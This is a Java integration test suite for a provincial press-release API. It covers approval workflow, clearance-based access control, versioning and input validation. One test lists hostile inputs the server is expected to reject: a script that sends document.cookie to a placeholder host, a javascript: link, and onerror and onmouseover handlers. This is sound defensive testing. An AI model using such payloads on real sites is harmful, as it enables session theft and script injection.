package id.go.jogjaprov.warta.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.go.jogjaprov.warta.devstack.WartaApiClient;
import id.go.jogjaprov.warta.devstack.WartaApiClient.Response;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * The thin thread through every module over the JSON API, on a real Payara Micro with the real
 * PostgreSQL and real Keycloak tokens: draft → submit → approve → published → archived → found.
 */
class ReleaseThreadApiIT extends WartaIT {

  @Test
  void aDraftTravelsFromStaffThroughTheHeadToTheArchiveSearch() {
    String marker = "uji" + UUID.randomUUID().toString().substring(0, 8);
    JsonObject draft =
        createDraft(
            "staf.humas",
            "BIASA",
            "Pelatihan juru bicara " + marker,
            "Diskominfo DIY menyelenggarakan pelatihan juru bicara bagi OPD. Kode " + marker + ".");
    String id = draft.getString("id");
    assertEquals("DRAFT", draft.getString("status"));
    assertEquals(
        "/Pemda DIY/Diskominfo DIY/Bidang Humas",
        draft.getString("unit"),
        "defaults to the author's unit");

    publish(id, "staf.humas", "kabid.humas");

    Response found = api.get("/api/archive/search?q=latih%20" + marker, token("arsiparis"));
    assertEquals(200, found.status(), found.body());
    JsonObject result = found.json();
    assertEquals(
        1,
        result.getJsonNumber("total").longValue(),
        "latih finds pelatihan through the Indonesian stemmer");
    JsonObject hit = result.getJsonArray("items").getJsonObject(0);
    assertEquals(id, hit.getString("releaseId"));
    assertTrue(hit.getString("snippet").contains("«pelatihan»"), hit.getString("snippet"));

    assertTrue(
        ids(everyItem("/api/public/releases", null)).contains(id),
        "a published Biasa release is public");
  }

  @Test
  void theAuthorCannotApproveTheirOwnDraft() {
    String id =
        createDraft("kabid.humas", "BIASA", "Konsep kepala bidang", "Isi konsep.").getString("id");
    assertEquals(
        200, api.post("/api/releases/" + id + "/submit", token("kabid.humas"), "{}").status());

    Response own =
        api.post(
            "/api/releases/" + id + "/decisions",
            token("kabid.humas"),
            "{\"decision\":\"APPROVE\"}");
    assertEquals(403, own.status());
    assertTrue(own.header("Content-Type").startsWith("application/problem+json"));

    Response staff =
        api.post(
            "/api/releases/" + id + "/decisions",
            token("staf.humas"),
            "{\"decision\":\"APPROVE\"}");
    assertEquals(403, staff.status(), "staff do not decide");
    assertEquals(
        "IN_REVIEW",
        api.get("/api/releases/" + id, token("kabid.humas")).json().getString("status"));
  }

  @Test
  void aPeerUnitSeesNeitherTheDraftNorItsArchiveRecordAndLearnsNothingFromTheRefusal() {
    String marker = "rahasia" + UUID.randomUUID().toString().substring(0, 8);
    String id =
        createDraft(
                "staf.humas", "TERBATAS", "Catatan terbatas " + marker, "Isi terbatas " + marker)
            .getString("id");

    Response peer = api.get("/api/releases/" + id, token("kabid.pariwisata"));
    Response missing = api.get("/api/releases/" + UUID.randomUUID(), token("kabid.pariwisata"));
    assertEquals(404, peer.status());
    assertEquals(missing.status(), peer.status());
    assertEquals(
        missing.body().replaceAll("[0-9a-f-]{36}", "ID"),
        peer.body().replaceAll("[0-9a-f-]{36}", "ID"),
        "a refused item answers exactly like a missing one");
    assertFalse(peer.body().contains(marker));
    assertFalse(ids(everyItem("/api/releases", token("staf.pariwisata"))).contains(id));

    publish(id, "staf.humas", "kabid.humas");

    assertEquals(
        0,
        api.get("/api/archive/search?q=" + marker, token("kabid.pariwisata"))
            .json()
            .getJsonNumber("total")
            .longValue());
    assertEquals(
        1,
        api.get("/api/archive/search?q=" + marker, token("arsiparis"))
            .json()
            .getJsonNumber("total")
            .longValue());
    assertFalse(
        ids(everyItem("/api/public/releases", null)).contains(id), "Terbatas is never public");
    assertEquals(
        "no-store", api.get("/api/releases/" + id, token("kabid.humas")).header("Cache-Control"));
  }

  @Test
  void whatAClearedHeadLoadedIsNeverServedFromMemoryToALowerClearance() {
    String marker = "kajian" + UUID.randomUUID().toString().substring(0, 8);
    String id =
        createDraft("kabid.humas", "RAHASIA", "Kajian " + marker, "Isi rahasia " + marker)
            .getString("id");
    assertEquals(200, api.get("/api/releases/" + id, token("kabid.humas")).status());
    assertEquals(
        200,
        api.get("/api/releases/" + id, token("kadis.kominfo")).status(),
        "the unit above sees it");

    Response sameUnitLowerClearance = api.get("/api/releases/" + id, token("staf.humas"));
    assertEquals(404, sameUnitLowerClearance.status());
    assertFalse(sameUnitLowerClearance.body().contains(marker));
    assertFalse(ids(everyItem("/api/releases", token("staf.humas"))).contains(id));
  }

  @Test
  void nobodyClassifiesAboveTheirClearance() {
    JsonObject draft =
        Json.createObjectBuilder()
            .add("type", "NEWS")
            .add("title", "Terlalu tinggi")
            .add("body", "Isi")
            .add("classification", "SANGAT_RAHASIA")
            .build();
    long before =
        api.get("/api/releases", token("staf.humas")).json().getJsonNumber("total").longValue();
    Response refused = api.post("/api/releases", token("staf.humas"), draft.toString());
    assertEquals(403, refused.status());
    assertEquals(
        before,
        api.get("/api/releases", token("staf.humas")).json().getJsonNumber("total").longValue(),
        "nothing was created");
  }

  @Test
  void callersWithoutTokenOrRoleAreRefused() {
    assertEquals(401, api.get("/api/releases", null).status());
    Response noRole = api.get("/api/releases", token("tamu"));
    assertEquals(403, noRole.status());
    assertTrue(noRole.header("Content-Type").startsWith("application/problem+json"));
  }

  @Test
  void badInputGetsProblemDetailsAndChangesNothing() {
    JsonObject draft = createDraft("staf.humas", "BIASA", "Judul asli", "Isi asli.");
    String id = draft.getString("id");
    String staff = token("staf.humas");

    Response malformed = api.put("/api/releases/" + id, staff, "{\"title\": ", etag(draft));
    assertEquals(400, malformed.status());
    assertEquals(PROBLEMS + "malformed-body", malformed.json().getString("type"));
    assertTrue(malformed.header("Content-Type").startsWith("application/problem+json"));

    Response inEnglish =
        api.speaking("en-GB,en;q=0.9,id;q=0.5")
            .put(
                "/api/releases/" + id,
                staff,
                "{\"type\":\"NEWS\",\"title\":\"\",\"body\":\"Isi\",\"classification\":\"BIASA\"}",
                etag(draft));
    assertEquals(400, inEnglish.status());
    assertEquals("en", inEnglish.header("Content-Language"));
    assertEquals("Invalid input", inEnglish.json().getString("title"));
    assertEquals("Title is required.", inEnglish.json().getString("detail"));
    Response inIndonesian =
        api.speaking("fr, *")
            .put(
                "/api/releases/" + id,
                staff,
                "{\"type\":\"NEWS\",\"title\":\"\",\"body\":\"Isi\",\"classification\":\"BIASA\"}",
                etag(draft));
    assertEquals("id", inIndonesian.header("Content-Language"));
    assertEquals("Judul wajib diisi.", inIndonesian.json().getString("detail"));

    Response badEnum =
        api.put(
            "/api/releases/" + id,
            staff,
            "{\"type\":\"GOSSIP\",\"title\":\"Baru\",\"body\":\"Baru\",\"classification\":\"BIASA\"}",
            etag(draft));
    assertEquals(400, badEnum.status());
    assertTrue(badEnum.json().getString("detail").contains("type"));

    String change =
        "{\"type\":\"NEWS\",\"title\":\"Baru\",\"body\":\"Baru\",\"classification\":\"BIASA\"}";
    Response stale = api.put("/api/releases/" + id, staff, change, "\"99\"");
    assertEquals(412, stale.status(), "a change to a version that is no longer current");
    assertEquals(PROBLEMS + "stale-version", stale.json().getString("type"));
    assertTrue(stale.header("Content-Type").startsWith("application/problem+json"));
    Response unnamed = api.put("/api/releases/" + id, staff, change);
    assertEquals(428, unnamed.status(), "a change must name the version it was made to");
    assertEquals(PROBLEMS + "precondition-required", unnamed.json().getString("type"));
    assertEquals(
        400, api.put("/api/releases/" + id, staff, change, "*").status(), "only one ETag will do");

    for (String[] hostile :
        new String[][] {
          {"body", "<p>Isi</p><script>fetch('https://contoh.example/?'+document.cookie)</script>"},
          {"body", "<p><a href=\"javascript:alert(1)\">tautan</a></p>"},
          {"body", "<p><img src=\"https://contoh.example/lacak.png\"></p>"},
          {"body", "<p onmouseover=\"alert(1)\">Isi</p>"},
          {"title", "<b>Judul</b> tebal"},
          {"lead", "Teras <img src=x onerror=alert(1)>"}
        }) {
      JsonObject attempt =
          Json.createObjectBuilder()
              .add("type", "NEWS")
              .add("title", "Judul baru")
              .add("body", "<p>Isi baru</p>")
              .add(hostile[0], hostile[1])
              .build();
      Response refused = api.put("/api/releases/" + id, staff, attempt.toString(), etag(draft));
      assertEquals(400, refused.status(), hostile[1] + ": " + refused.body());
      assertEquals(hostile[0], refused.json().getString("field"), hostile[1]);
      assertEquals(PROBLEMS + "invalid-input", refused.json().getString("type"));
    }

    JsonObject stored = api.get("/api/releases/" + id, staff).json();
    assertEquals("Judul asli", stored.getString("title"));
    assertEquals("<p>Isi asli.</p>", stored.getString("body"));
    assertEquals(1, stored.getInt("revision"), "nothing was saved");
  }

  @Test
  void richTextIsKeptSanitisedAndThePortalRendersIt() {
    String marker = "kaya" + UUID.randomUUID().toString().substring(0, 8);
    JsonObject draft =
        createDraft(
            "staf.humas",
            "BIASA",
            "Format " + marker,
            "<h2>Jadwal</h2><p class=\"ql-align-center MsoNormal\" style=\"color:red\">"
                + "<strong>Senin</strong> di <a href=\"https://jogjaprov.go.id\">Kepatihan</a></p>");
    assertEquals(
        "<h2>Jadwal</h2><p class=\"ql-align-center\"><strong>Senin</strong> di <a"
            + " href=\"https://jogjaprov.go.id\" rel=\"noopener noreferrer nofollow\">Kepatihan</a></p>",
        draft.getString("body"),
        "formatting kept; the editor's unknown classes and inline colours dropped");
    publish(draft.getString("id"), "staf.humas", "kabid.humas");
    var portal = PageSession.anonymous().get("/");
    assertTrue(portal.body().contains("<strong>Senin</strong>"), "the portal renders the HTML");
    assertFalse(portal.body().contains("&lt;strong&gt;Senin"), "not as escaped text");
  }

  @Test
  void theVersionAnsweredIsTheOneToSendWithTheNextChange() {
    JsonObject created = createDraft("staf.humas", "BIASA", "Versi pertama", "Isi.");
    String id = created.getString("id");
    String staff = token("staf.humas");
    String tag = api.get("/api/releases/" + id, staff).header("ETag");
    assertEquals(etag(created), tag, "the ETag is the version");
    for (String title : List.of("Versi kedua", "Versi ketiga")) {
      Response revised =
          api.put(
              "/api/releases/" + id,
              staff,
              "{\"type\":\"NEWS\",\"title\":\""
                  + title
                  + "\",\"body\":\"Isi.\",\"classification\":\"BIASA\"}",
              tag);
      assertEquals(200, revised.status(), revised.body());
      assertFalse(tag.equals(revised.header("ETag")), "a change is a new version");
      tag = revised.header("ETag");
    }
    assertEquals(tag, api.get("/api/releases/" + id, staff).header("ETag"));
  }

  @Test
  void healthReportsTheDatabaseAndKeycloakAndTheApiIsDocumented() {
    var health =
        new WartaApiClient("http://127.0.0.1:" + System.getProperty("warta.it.http.port", "8280"));
    Response ready = health.get("/health/ready", null);
    assertEquals(200, ready.status(), ready.body());
    List<String> checks =
        ready.json().getJsonArray("checks").getValuesAs(JsonObject.class).stream()
            .map(c -> c.getString("name"))
            .toList();
    assertTrue(checks.containsAll(List.of("database", "keycloak")), checks.toString());

    Response openapi = health.get("/openapi", null);
    assertEquals(200, openapi.status());
    assertTrue(openapi.body().contains("/releases/{id}/decisions"), "the API is documented");
  }

  @Test
  void theListFiltersSortsAndPagesOnTheServerWithinWhatTheCallerMaySee() {
    String marker = "daftar" + UUID.randomUUID().toString().substring(0, 8);
    String alpha = createDraft("staf.humas", "BIASA", "Alfa " + marker, "Isi.").getString("id");
    String beta = createDraft("staf.humas", "TERBATAS", "Beta " + marker, "Isi.").getString("id");
    createDraft("kabid.humas", "RAHASIA", "Gama " + marker, "Isi.");
    String staff = token("staf.humas");

    assertEquals(
        List.of(alpha, beta),
        ids(everyItem("/api/releases?q=" + marker.toUpperCase() + "&sort=title", staff)),
        "words in any case, in title order, and never the Rahasia one");
    assertEquals(
        List.of(beta, alpha), ids(everyItem("/api/releases?q=" + marker + "&sort=-title", staff)));
    assertEquals(
        List.of(beta),
        ids(everyItem("/api/releases?q=" + marker + "&classification=TERBATAS", staff)));
    assertEquals(
        List.of(), ids(everyItem("/api/releases?q=" + marker + "&type=ANNOUNCEMENT", staff)));
    assertEquals(
        List.of(),
        ids(everyItem("/api/releases?q=%25" + marker.substring(0, 3) + "_", staff)),
        "% and _ are letters, not wildcards");
    Response badSort = api.get("/api/releases?sort=-body", staff);
    assertEquals(400, badSort.status());
    assertEquals("sort", badSort.json().getString("field"));
  }
}
